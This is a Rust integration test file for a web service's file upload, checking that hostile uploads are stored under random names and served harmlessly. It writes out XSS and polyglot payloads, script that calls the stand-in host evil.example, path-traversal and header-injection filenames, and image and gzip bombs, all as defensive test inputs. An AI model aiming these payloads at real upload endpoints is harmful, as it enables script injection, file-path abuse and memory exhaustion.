//! Files that are not what they seem, are larger than they look, or bear names that lead elsewhere: kept as what they
//! are, served so that they can do nothing.

use std::{collections::BTreeSet, path::PathBuf, process::Command};

use reqwest::{
    Method,
    multipart::{Form, Part},
};
use serde_json::Value;

use super::{
    figure,
    support::{
        Answer, Session, TestDesk,
        document::{Thing, routes},
        world::{Role, World, on_both_worlds},
    },
};

/// What runs in a page that takes it for one.
const SCRIPT: &[u8] = b"<script>fetch('//evil.example')</script>";
/// Types that a browser shows in a page; nothing else may be shown.
const SHOWN: [&str; 8] = [
    "image/jpeg",
    "image/png",
    "image/webp",
    "image/gif",
    "video/mp4",
    "video/webm",
    "video/3gpp",
    "application/pdf",
];
/// Memory that a bomb may cost.
const BOMB_KILOBYTES_MAX: u64 = 50_000;

fn png(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend(width.to_be_bytes());
    bytes.extend(height.to_be_bytes());
    bytes.extend(b"\x08\x06\0\0\0\0\0\0\0\0\0\0\0IEND\xaeB`\x82");
    bytes
}

fn gif(width: u16, height: u16, more: &[u8]) -> Vec<u8> {
    let size = [width.to_le_bytes(), height.to_le_bytes()].concat();
    [b"GIF89a", &size[..], b"\x80\0\0\0\0\0\xff\xff\xff", more].concat()
}

fn jpeg(width: u16, height: u16, comment: &[u8]) -> Vec<u8> {
    let length = u16::try_from(comment.len() + 2)
        .expect("short")
        .to_be_bytes();
    let comment = [b"\xff\xfe", &length[..], comment].concat();
    let size = [height.to_be_bytes(), width.to_be_bytes()].concat();
    let frame = [
        b"\xff\xc0\0\x11\x08",
        &size[..],
        b"\x03\x01\x22\0\x02\x11\x01\x03\x11\x01",
    ]
    .concat();
    [b"\xff\xd8", &comment[..], &frame[..], b"\xff\xd9"].concat()
}

fn utf16(text: &str) -> Vec<u8> {
    let units = text.encode_utf16().flat_map(u16::to_le_bytes);
    [0xff, 0xfe].into_iter().chain(units).collect()
}

/// Name, declared type and bytes.
type File = (&'static str, &'static str, Vec<u8>);

fn disguises() -> Vec<File> {
    [active_texts(), polyglots(), bombs()].concat()
}

/// What a browser would run if it were shown as what it is.
fn active_texts() -> Vec<File> {
    let page = b"<!DOCTYPE html><html><body onload=alert(1)>".to_vec();
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec();
    let with = |bytes: Vec<u8>| [&bytes[..], SCRIPT].concat();
    vec![
        ("a.png", "image/png", page.clone()),
        ("a.jpg", "image/jpeg", svg.clone()),
        ("a.svg", "image/svg+xml", svg.clone()),
        ("a.html", "text/html", page.clone()),
        (
            "a.xhtml",
            "application/xhtml+xml",
            b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>".to_vec(),
        ),
        (
            "a.xml",
            "text/xml",
            b"<?xml-stylesheet href='//evil.example/x.xsl'?><a/>".to_vec(),
        ),
        ("a.js", "text/javascript", b"alert(1)//".to_vec()),
        ("a.css", "text/css", b"@import '//evil.example'".to_vec()),
        ("a.txt", "text/plain", with(b"\xef\xbb\xbf \n\n ".to_vec())),
        (
            "a.txt",
            "text/plain",
            utf16("<html><script>alert(1)</script>"),
        ),
        (
            "a.mht",
            "multipart/related",
            b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>".to_vec(),
        ),
        (
            "a.hta",
            "application/hta",
            b"<hta:application><script>".to_vec(),
        ),
        (
            "a.png",
            "text/html; charset=utf-7",
            b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_vec(),
        ),
    ]
}

/// Files of one kind that are something else as well.
fn polyglots() -> Vec<File> {
    let with = |bytes: Vec<u8>| [&bytes[..], SCRIPT].concat();
    vec![
        (
            "a.gif",
            "image/gif",
            gif(1, 1, b"/*<script>*/=1;alert(1)//"),
        ),
        ("a.js", "text/javascript", gif(1, 1, b"=1;alert(1)")),
        ("a.jpg", "image/jpeg", jpeg(1, 1, SCRIPT)),
        ("a.png", "image/png", with(png(1, 1))),
        ("a.pdf", "application/pdf", with(b"%PDF-1.4\n".to_vec())),
        (
            "a.pdf",
            "application/pdf",
            b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>".to_vec(),
        ),
        (
            "a.html",
            "video/mp4",
            with(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec()),
        ),
        ("a.mp3", "audio/mpeg", with(b"ID3\x04\0\0\0\0\0\0".to_vec())),
        ("a.ogg", "audio/ogg", with(b"OggS\0\x02".to_vec())),
        ("a.zip", "application/zip", with(b"PK\x03\x04".to_vec())),
        (
            "a.jar",
            "image/gif",
            [&gif(1, 1, b"")[..], b"PK\x03\x04"].concat(),
        ),
        (
            "a.webp",
            "image/webp",
            with(b"RIFF\x24\0\0\0WEBPVP8 ".to_vec()),
        ),
        ("a.png", "image/png\r\nX-Evil: 1", png(1, 1)),
    ]
}

/// Small files that say they are huge, and hardly any file at all.
fn bombs() -> Vec<File> {
    vec![
        ("bomb.png", "image/png", png(60_000, 60_000)),
        ("bomb.png", "image/png", png(u32::MAX, u32::MAX)),
        ("bomb.png", "image/png", png(0, 0)),
        ("bomb.gif", "image/gif", gif(u16::MAX, u16::MAX, b"")),
        ("bomb.jpg", "image/jpeg", jpeg(u16::MAX, u16::MAX, b"")),
        ("empty.png", "image/png", Vec::new()),
        ("one.bin", "image/png", vec![0x89]),
    ]
}

/// Names as others send them, as they stand in a header.
fn names() -> Vec<String> {
    let long = "a".repeat(3000);
    [
        "../../../../etc/passwd",
        "..\\..\\win.ini",
        "/etc/passwd",
        "C:\\x.png",
        "a\\x00.png",
        "%2e%2e%2fx.png",
        "%00.png",
        "",
        ".",
        "..",
        "...",
        "~",
        "-rf",
        "CON",
        "nul.txt",
        "a\u{202e}gnp.exe",
        "a\u{200b}.png",
        "😀.png",
        "a;b.png",
        "a%22.html",
        "<img src=x onerror=alert(1)>.png",
        "x.png; filename*=UTF-8''y.html",
        "a%0d%0aX-Evil: 1.png",
        "a\tb.png",
        " .png",
        "a.png.",
        "a.png::$DATA",
        &long,
    ]
    .map(str::to_owned)
    .into()
}

/// Every file below the data folder but the database, the log and the keys.
fn files(desk: &TestDesk) -> BTreeSet<PathBuf> {
    let mut folders = vec![desk.data_dir().to_path_buf()];
    let mut files = BTreeSet::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).expect("a folder") {
            let path = entry.expect("an entry").path();
            let name = path
                .file_name()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            let is_own = name.starts_with("guiche.db") || name == "log" || name == "pid";
            if path.is_dir() {
                folders.push(path);
            } else if !is_own {
                files.insert(path);
            }
        }
    }
    files
}

/// That the answer is one of the description, and what was stored.
fn stored(what: &str, answer: &Answer) -> Vec<Value> {
    let routes = routes();
    let route = routes
        .iter()
        .find(|it| it.name() == "POST /messages/{id}")
        .expect("the route");
    let (status, code) = answer.refusal();
    assert!(route.statuses.contains(&status), "{what}: {status} {code}");
    assert!(status < 500, "{what}: {status} {code}");
    let one = answer.body["message"]
        .is_object()
        .then(|| answer.body["message"].clone());
    let several = answer.body["messages"].as_array().cloned();
    one.into_iter()
        .chain(several.into_iter().flatten())
        .collect()
}

/// That a file can do nothing in a browser.
async fn check_served(session: &Session, what: &str, message: &Value) {
    let link = message["mediaUrl"].as_str().expect("a link");
    let file = session.file(link).await;
    assert!(file.status().is_success(), "{what}: {}", file.status());
    let header = |name: &str| {
        let value = file.headers().get(name);
        value
            .and_then(|value| value.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    let kind = header("content-type");
    let shown = SHOWN.contains(&&*kind) || kind.starts_with("audio/");
    let disposition = header("content-disposition");
    assert!(
        shown || disposition.starts_with("attachment"),
        "{what}: {kind} {disposition}"
    );
    for bad in ["html", "svg", "xml", "javascript"] {
        let as_text = disposition.starts_with("attachment");
        assert!(!kind.contains(bad) || as_text, "{what}: {kind}");
    }
    assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
    let policy = header("content-security-policy");
    assert!(policy.contains("default-src 'none'"), "{what}: {policy}");
    assert!(
        policy.contains("sandbox") || kind == "application/pdf",
        "{what}: {policy}"
    );
    assert!(file.headers().get("x-evil").is_none(), "{what}");
    let name = message["mediaName"].as_str().unwrap_or_default();
    assert!(
        !name.contains(['/', '\\', '\0', '\r', '\n', '\u{202e}']),
        "{what}: {name:?}"
    );
}

/// A form as an attacker writes it, byte by byte.
async fn send_raw(
    session: &Session,
    address: &str,
    name: &str,
    mime: &str,
    bytes: &[u8],
) -> Answer {
    let head = format!(
        "--b\r\nContent-Disposition: form-data; name=\"medias\"; filename=\"{name}\"\r\nContent-Type: {mime}\r\n\r\n"
    );
    let body = [head.as_bytes(), bytes, b"\r\n--b--\r\n"].concat();
    let kind = "multipart/form-data; boundary=b";
    session.raw(Method::POST, address, kind, body).await
}

#[tokio::test]
async fn whatever_is_uploaded_is_served_as_something_harmless() {
    // spec: S101 S118
    on_both_worlds(async |world| {
        let marina = world.session(Role::Attendant).await;
        let address = format!("/messages/{}", world.things().await[&Thing::Ticket]);
        let before = files(world.desk);
        let (mut tried, mut kept) = (0, 0);
        for (name, mime, bytes) in disguises() {
            let what = format!("{name} as {mime:?}");
            let answer = send_raw(&marina, &address, name, mime, &bytes).await;
            for message in stored(&what, &answer) {
                check_served(&marina, &what, &message).await;
                assert!(
                    !name.starts_with("bomb") || message["mediaType"] != "image",
                    "{what}"
                );
                kept += 1;
            }
            tried += 1;
        }
        for name in names() {
            let answer = send_raw(&marina, &address, &name, "image/png", &png(1, 1)).await;
            for message in stored(&name, &answer) {
                check_served(&marina, &name, &message).await;
                kept += 1;
            }
            tried += 1;
        }
        assert!(kept > tried / 2, "{kept} of {tried}");
        check_places(world, &marina, &before, kept);
        figure(&format!(
            "{tried} hostile uploads, {kept} kept and served, 0 of them active or out of place"
        ));
    })
    .await;
}

/// That every new file is below the company's folder under a random name, one for each that was kept.
fn check_places(world: &World, session: &Session, before: &BTreeSet<PathBuf>, kept: usize) {
    let folder = world
        .desk
        .data_dir()
        .join("media")
        .join(session.company().to_string());
    let after = files(world.desk);
    let new: Vec<_> = after.difference(before).collect();
    assert_eq!(new.len(), kept, "{new:?}");
    for path in new {
        let name = path
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        assert!(path.starts_with(&folder), "{}", path.display());
        assert!(
            name.len() == 32 && name.bytes().all(|byte| byte.is_ascii_hexdigit()),
            "{name}"
        );
    }
}

/// Most memory that the desk has had, in kilobytes.
fn peak(desk: &TestDesk) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", desk.pid()));
    let status = status.expect("a status");
    let line = status.lines().find(|line| line.starts_with("VmHWM"));
    let kilobytes = line.and_then(|line| line.split_whitespace().nth(1));
    kilobytes
        .and_then(|text| text.parse().ok())
        .expect("kilobytes")
}

#[tokio::test]
async fn a_packed_body_does_not_fill_the_memory() {
    on_both_worlds(async |world| {
        let bomb = "import gzip, sys; sys.stdout.buffer.write(gzip.compress(b'[' + b' ' * 200_000_000, 9))";
        let bomb = Command::new("python3").args(["-c", bomb]).output().expect("python runs");
        let marina = world.session(Role::Attendant).await;
        let ticket = world.things().await[&Thing::Ticket].clone();
        let before = peak(world.desk);
        for address in ["/contacts".to_owned(), format!("/messages/{ticket}"), "/auth/login".to_owned()] {
            let answer = marina.packed(&address, &bomb.stdout).await;
            assert!(answer.status.is_client_error(), "{address}: {answer:?}");
        }
        let grown = peak(world.desk).saturating_sub(before);
        assert!(grown < BOMB_KILOBYTES_MAX, "{grown} kB");
        figure(&format!("200 MB packed into {} kB: refused, {grown} kB of memory", bomb.stdout.len() / 1000));
    })
    .await;
}

#[tokio::test]
async fn more_files_fields_or_bytes_than_allowed_are_refused() {
    // spec: S101
    on_both_worlds(async |world| {
        let marina = world.session(Role::Attendant).await;
        let address = format!("/messages/{}", world.things().await[&Thing::Ticket]);
        let before = files(world.desk);
        let part = || Part::bytes(png(1, 1)).file_name("a.png");
        let many = (0..11).fold(Form::new(), |form, _| form.part("medias", part()));
        let fields = (0..500).fold(Form::new(), |form, place| {
            form.text(format!("f{place}"), "x")
        });
        for (what, form) in [("eleven files", many), ("500 fields", fields)] {
            let answer = marina.upload(&address, form).await;
            assert!(stored(what, &answer).is_empty(), "{what}: {answer:?}");
        }
        assert_eq!(files(world.desk), before, "nothing is left behind");
    })
    .await;
}
